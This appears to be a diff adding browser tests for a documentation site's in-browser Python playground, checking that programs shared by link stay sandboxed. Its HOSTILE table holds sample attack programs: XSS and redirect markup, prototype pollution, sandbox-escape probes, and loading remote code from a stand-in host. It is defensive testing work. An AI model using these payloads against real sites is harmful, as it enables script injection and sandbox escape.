@@ -1,0 +1,299 @@
+"""Programs run in the reader's browser, in a site of `make live`; a stranger's cannot do harm."""
+
+import json
+import re
+import socket
+from base64 import urlsafe_b64encode
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from browser import CONTROL, Browser
+
+from lifespec_docs.live import runnable
+
+STARTED = 240.0  # seconds until a Python has started, on a busy machine
+pytestmark = [pytest.mark.timeout(900), pytest.mark.needs("chromium", "npm")]
+BARS = "[...document.querySelectorAll('.live-bar')]"
+STATE = """(() => {
+    const bar = document.querySelectorAll(".live-bar")[NUMBER];
+    const [run] = bar.querySelectorAll("button"), result = bar.nextElementSibling;
+    return {run: run.textContent, status: bar.querySelector("[role=status]").textContent,
+            printed: result.hidden ? "" : result.textContent};
+})()"""
+FRIENDLY = "print('friendly')"
+TO_US = "from pyodide.ffi import to_js, create_proxy\nimport js\n"
+# Each begins as a stranger's link would; what the reader sees of it, if that is always the same.
+HOSTILE = {
+    "answers in our place": (
+        TO_US + "page = '<meta http-equiv=refresh content=\"0;url=http://ELSEWHERE/\">'\n"
+        "for number in range(60):\n"
+        "    answer = {'id': number, 'token': str(number), 'text': page, 'same': True}\n"
+        "    js.postMessage(to_js(answer, dict_converter=js.Object.fromEntries))",
+        "AttributeError: postMessage",
+    ),
+    "prints a page": (
+        ("print('<a style=position:fixed;inset:0>Log in</a>')\n"
+        "raise ValueError('<img src=http://ELSEWHERE/ onerror=alert(1)>')"),
+        "ValueError: <img src=",
+    ),
+    "sends what is no text": (
+        TO_US + "import sys\n"
+        "frame = sys._getframe()\n"
+        "while 'send' not in frame.f_locals:\n    frame = frame.f_back\n"
+        "frame.f_locals['send'](to_js({'same': True}, dict_converter=js.Object.fromEntries))",
+        "slice is not a function",
+    ),
+    "replaces what answers": (
+        TO_US + "import builtins, json\n"
+        "js.JSON.parse = js.JSON.stringify = create_proxy(lambda *_: None)\n"
+        "js.Object.prototype.token = '<b>'\n"
+        "json.dumps = lambda *_: '{\"same\": true, \"text\": [\"<b>\"], \"error\": {}}'\n"
+        "builtins.print = lambda *_: None",
+        "",
+    ),
+    "looks for a way out": (
+        TO_US + "doors = 'close dispatchEvent addEventListener onmessage fetch XMLHttpRequest'\n"
+        "doors += ' WebSocket EventSource Worker importScripts caches indexedDB navigator'\n"
+        "print('found', [each for each in doors.split() if hasattr(js, each)])\n"
+        "for way in (js.eval, js.Function.new, js.setTimeout):\n"
+        "    try:\n        way('postMessage({text: 1})')\n"
+        "    except Exception as error:\n        print(error)",
+        "found []\nEvalError",
+    ),
+    "loads": (
+        ("import pyodide_js\npyodide_js.loadPackage('http://ELSEWHERE/x-1-py3-none-any.whl')\n"
+        "from pyodide.http import open_url\nopen_url('http://ELSEWHERE/')"),
+        "XMLHttpRequest",
+    ),
+    "exits": ("import os\nprint('before')\nos._exit(3)", "before"),
+}  # fmt: skip
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[socket.socket]:
+    """Return a server that belongs to somebody else."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(0.5)
+        yield server
+
+
+@pytest.fixture(autouse=True, scope="module")
+def live(site: Path) -> None:
+    """Look at a site whose programs can be run."""
+    if not (site / "live").is_dir():
+        raise FileNotFoundError("The site has no Run buttons: run `make live` before these tests.")
+
+
+@pytest.fixture
+def playground(browser: Browser, address: str) -> str:
+    """Open the playground."""
+    where = f"{address}/en/playground.html"
+    if not browser.run("location.href").startswith(where):
+        browser.open(where)
+    return where
+
+
+def linked(program: str) -> str:
+    """Return the part of a link that has a program."""
+    return f"#code={urlsafe_b64encode(program.encode()).decode().rstrip('=')}"
+
+
+def state(browser: Browser, number: int = 0) -> dict[str, str]:
+    found: dict[str, str] = browser.run(STATE.replace("NUMBER", str(number)))
+    return found
+
+
+def ran(browser: Browser, number: int = 0, run: str = "Run") -> dict[str, str]:
+    """Press a button Run and return what the page says when the program has ended."""
+    browser.run(f"{BARS}[{number}].querySelector('button').click()")
+    browser.until(f"{STATE}.run === {run!r}".replace("NUMBER", str(number)), STARTED)
+    return state(browser, number)
+
+
+def ran_shared(browser: Browser, program: str) -> dict[str, str]:
+    """Run a program from a link."""
+    browser.run(f"location.hash = {linked(program)!r}")
+    browser.until(f"document.querySelector('textarea').value.trimEnd() === {json.dumps(program)}")
+    return ran(browser)
+
+
+def edit(browser: Browser, number: int, program: str) -> None:
+    """Press Edit below a program, and write another one."""
+    browser.run(f"{BARS}[{number}].querySelectorAll('button')[1].click()")
+    browser.run(f"document.querySelector('textarea').value = {json.dumps(program)}")
+
+
+def pages(site: Path, folder: str) -> list[str]:
+    found = (site / folder).rglob("*.html")
+    return sorted(
+        page.relative_to(site / folder).as_posix()
+        for page in found
+        if "runs-here" in page.read_text(encoding="utf-8") and page.stem != "playground"
+    )
+
+
+@pytest.mark.parametrize("part", range(4))
+def test_each_program_does_what_its_page_shows(
+    browser: Browser, address: str, site: Path, part: int
+) -> None:
+    names, wrong, count = pages(site, "en")[part::4], {}, 0
+    for name in names:
+        browser.open(f"{address}/en/{name}")
+        for number in range(browser.run(f"{BARS}.length")):
+            found = ran(browser, number)
+            count += 1
+            if found["printed"] or found["status"] not in {SAME, "The program printed nothing."}:
+                wrong[name, number] = found
+    assert (wrong, count > len(names)) == ({}, True)
+
+
+SAME = "✓ Same output as on this page"
+
+
+def test_a_chinese_page_speaks_chinese(browser: Browser, address: str) -> None:
+    browser.open(f"{address}/zh-cn/timeouts.html")
+    assert state(browser)["run"] == "运行"
+    assert ran(browser, run="运行")["status"] == "✓ 输出与本页一致"
+    words = "document.querySelector('[data-words]').dataset.words"
+    chinese = json.loads(browser.run(words)).values()
+    browser.open(f"{address}/en/timeouts.html")
+    assert not {*chinese}.intersection(json.loads(browser.run(words)).values())
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_program_from_a_link_does_no_harm(
+    browser: Browser, playground: str, elsewhere: socket.socket, name: str
+) -> None:
+    """The page stays, nobody else hears of it, and the next program runs as if nothing was."""
+    program, shown = HOSTILE[name]
+    there = "{}:{}".format(*elsewhere.getsockname())
+    found = ran_shared(browser, program.replace("ELSEWHERE", there))
+    assert shown in found["printed"] + found["status"]
+    assert ran_shared(browser, FRIENDLY)["printed"] == "friendly\n"
+    assert browser.run("location.href") == playground + linked(FRIENDLY)
+    assert (
+        browser.run(
+            "document.querySelectorAll('.live-result *, .live-bar :not(button, span)').length"
+        )
+        == 0
+    )
+    with pytest.raises(TimeoutError):
+        elsewhere.accept()
+
+
+def test_a_link_does_not_run_by_itself(browser: Browser, address: str) -> None:
+    browser.open("about:blank")
+    browser.requests.clear()
+    browser.open(f"{address}/en/playground.html{linked(FRIENDLY)}")
+    assert browser.run("document.querySelector('textarea').value") == FRIENDLY + "\n"
+    assert not [each for each in browser.requests if "blob:" in each or "manifest" in each]
+    assert state(browser)["printed"] == ""
+
+
+@pytest.mark.parametrize("code", ["%E0%A4%A", "=", "_", "A" * 100_000, "constructor"])
+def test_a_spoiled_link_shows_a_program_all_the_same(
+    browser: Browser, address: str, code: str
+) -> None:
+    browser.open("about:blank")
+    browser.open(f"{address}/en/playground.html#code={code}")
+    assert browser.run("!!document.querySelector('textarea').value")
+
+
+def test_a_link_can_be_copied(browser: Browser, playground: str) -> None:
+    program = "print('汉字 — and £')"
+    ran_shared(browser, FRIENDLY)
+    browser.run(f"document.querySelector('textarea').value = {program!r}")
+    browser.run(f"{BARS}[0].querySelectorAll('button')[2].click()")
+    browser.until("document.querySelector('[role=status]').textContent")
+    assert browser.run("location.href") == playground + linked(program)
+    browser.run("location.reload()")
+    browser.until(f"document.querySelector('textarea')?.value.trimEnd() === {program!r}")
+
+
+def test_a_program_is_edited_where_it_stands(browser: Browser, address: str) -> None:
+    browser.open(f"{address}/en/timeouts.html")
+    edit(browser, 0, "def f():\n    return 1 / 0\n\n\nprint('before')\nf()")
+    found = ran(browser)
+    assert found["status"] == "The program raised an exception."
+    lines = found["printed"].splitlines()
+    assert lines[0] == "before"
+    assert lines[-1] == "ZeroDivisionError: division by zero"
+    assert [line for line in lines if "File" in line] == [
+        '  File "program 1", line 6, in <module>',
+        '  File "program 1", line 2, in f',
+    ]
+    below = ran(browser, 1)
+    assert below["status"].startswith("A program above this one raised ZeroDivisionError")
+    browser.run(f"{BARS}[0].querySelectorAll('button')[1].click()")
+    assert ran(browser)["status"] == SAME
+    assert browser.run("!document.querySelector('textarea, .live-hidden')")
+
+
+def test_what_takes_too_long_is_ended(browser: Browser, playground: str) -> None:
+    found = ran_shared(browser, "print('before')\nwhile True:\n    pass")
+    assert found["status"] == "This took too long here, so it was stopped after 20 s."
+    assert found["printed"] == "before\n"
+    assert ran_shared(browser, FRIENDLY)["printed"] == "friendly\n"
+
+
+def test_a_flood_is_cut_and_can_be_stopped(browser: Browser, playground: str) -> None:
+    program = "while True:\n    print('x' * 1000)"
+    browser.run(f"location.hash = {linked(program)!r}")
+    browser.until("document.querySelector('textarea').value.includes('while')")
+    browser.run(f"{BARS}[0].querySelector('button').click()")
+    browser.until("document.querySelector('[role=status]').textContent === 'Running …'", STARTED)
+    found = ran(browser)
+    assert found["status"] == "Stopped."
+    assert len(found["printed"]) <= 30_000
+
+
+def test_the_keyboard_keeps_its_place(browser: Browser, address: str) -> None:
+    browser.open(f"{address}/en/timeouts.html")
+    browser.run(f"{BARS}[0].querySelector('button').focus()")
+    browser.press("Enter")
+    others = f"{BARS}[1].querySelector('button')"
+    assert browser.run(f"{others}.ariaDisabled === 'true' && !{others}.disabled")
+    browser.run(f"{others}.click()")  # another program waits until this one has ended
+    browser.until(f"{BARS}[0].querySelector('[role=status]').textContent === {SAME!r}", STARTED)
+    assert state(browser, 1)["status"] == ""
+    assert browser.run(f"document.activeElement === {BARS}[0].querySelector('button')")
+    browser.press("Tab")
+    browser.press("Enter")
+    assert browser.run("document.activeElement.matches('textarea')")
+    browser.press("Enter", CONTROL)
+    assert browser.run(STATE.replace("NUMBER", "0"))["run"] == "Stop"
+
+
+def test_the_first_press_says_how_much_is_loaded(browser: Browser, address: str) -> None:
+    browser.open("about:blank")
+    browser.open(f"{address}/en/timeouts.html")
+    browser.run("window.said = []")
+    browser.run(f"""new MutationObserver(([each]) => said.push(each.target.textContent))
+        .observe({BARS}[0].querySelector('[role=status]'), {{childList: true}})""")
+    ran(browser)
+    assert any(
+        re.match(r"Loading Python, once: \d+ of 14 MB", each) for each in browser.run("said")
+    )
+
+
+def test_a_browser_that_is_offline_says_so(browser: Browser, address: str) -> None:
+    browser.open(f"{address}/en/timeouts.html")
+    offline = {"latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
+    browser.send("Network.emulateNetworkConditions", offline=True, **offline)
+    found = ran(browser)
+    browser.send("Network.emulateNetworkConditions", offline=False, **offline)
+    assert found["status"] == "Python could not be loaded. Is this browser offline?"
+    assert ran(browser)["status"] == SAME
+
+
+def test_a_program_needs_what_a_browser_has() -> None:
+    programs = [
+        "import asyncio\nx = 1",
+        "import trio\ny = 1",
+        "print(y)",
+        "def y():\n    import starlette.routing",
+        "print(y)",
+        "from lifespec.conformance import check_app",
+    ]
+    assert [*runnable(programs)] == [True, False, False, True, True, False]
